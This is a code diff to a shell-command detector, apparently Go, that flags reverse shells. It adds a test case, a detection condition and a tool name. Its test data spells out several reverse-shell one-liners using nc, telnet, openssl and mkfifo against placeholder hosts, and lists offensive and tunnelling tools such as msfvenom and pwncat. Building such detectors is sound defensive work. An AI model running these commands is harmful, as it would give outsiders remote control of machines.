@@ -43,7 +43,7 @@ func reverseShells() table {
 			Why:    "lets another machine run commands on this one",
 			Remedy: lookOnly,
 			Hits: []string{
-				"nc -l 4444 | bash", "telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445", "openssl s_server -quiet -port 443 | sh", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect x.example:443 > /tmp/s",
+				"nc -l 4444 | bash", "/bin/sh | nc 203.0.113.9 4444", "telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445", "openssl s_server -quiet -port 443 | sh", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect x.example:443 > /tmp/s",
 				"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f", "coproc nc 203.0.113.9 4444; bash <&\"${COPROC[0]}\" >&\"${COPROC[1]}\"",
 			},
 			Passes: []string{"nc -zv localhost 5432", "nc -l 9999 > f", "bash build.sh | nc -w1 logs 514", "echo hi | nc h 1", "bash -c 'echo stats' | nc localhost 11211", "openssl s_client -connect a:443 </dev/null | bash -c cat"},
@@ -168,7 +168,7 @@ func networkFeeds(c *ctx, i int) (span, bool) {
 		if _, ok := readsProgram(c, i); !ok {
 			return span{}, false
 		}
-		if r := c.cmd(i).Reader; r >= 0 && talks(c, r) && (hasArg(c.args(i), "-i") || pipeFed(c, i)) {
+		if r := c.cmd(i).Reader; r >= 0 && talks(c, r) && (hasArg(c.args(i), "-i") || pipeFed(c, i) || c.cmd(i).Stdin == nil && len(c.args(i)) == 1) {
 			return span{c.cmd(i).Start, max(c.cmd(i).End, c.cmd(r).End)}, true
 		}
 		for _, r := range c.cmd(i).Redirs {
@@ -259,7 +259,7 @@ func openerNames() []string {
 		"tmate", "ttyd", "gotty", "sshx", "upterm", "teleconsole", "wetty", "chisel", "frpc", "frps", "ngrok", "cloudflared", "bore", "lt", "localtunnel", "npx", "msfvenom", "msfconsole", "pwncat", "pwncat-cs", "gs-netcat", "gsocket",
 		"dnscat", "dnscat2", "iodine", "iodined", "ptunnel", "ligolo-ng", "ligolo", "evil-winrm", "weevely", "sliver-client", "sliver-server", "empire", "xterm", "ztcp", "zmodload", "code", "code-insiders", "tailscale", "x11vnc", "vncserver",
 		"tigervncserver", "anydesk", "teamviewer", "rustdesk", "inlets", "playit", "localxpose", "loclx", "zrok", "pinggy", "serveo", "revsocks", "rpivot", "gost", "shellinaboxd", "butterfly.server.py", "telnetd", "in.telnetd", "rshd",
-		"hydra", "medusa", "responder", "bettercap", "ettercap", "arpspoof", "nps", "npc", "stowaway", "earthworm", "merlinagent",
+		"websocketd", "hydra", "medusa", "responder", "bettercap", "ettercap", "arpspoof", "nps", "npc", "stowaway", "earthworm", "merlinagent",
 	}
 }
 
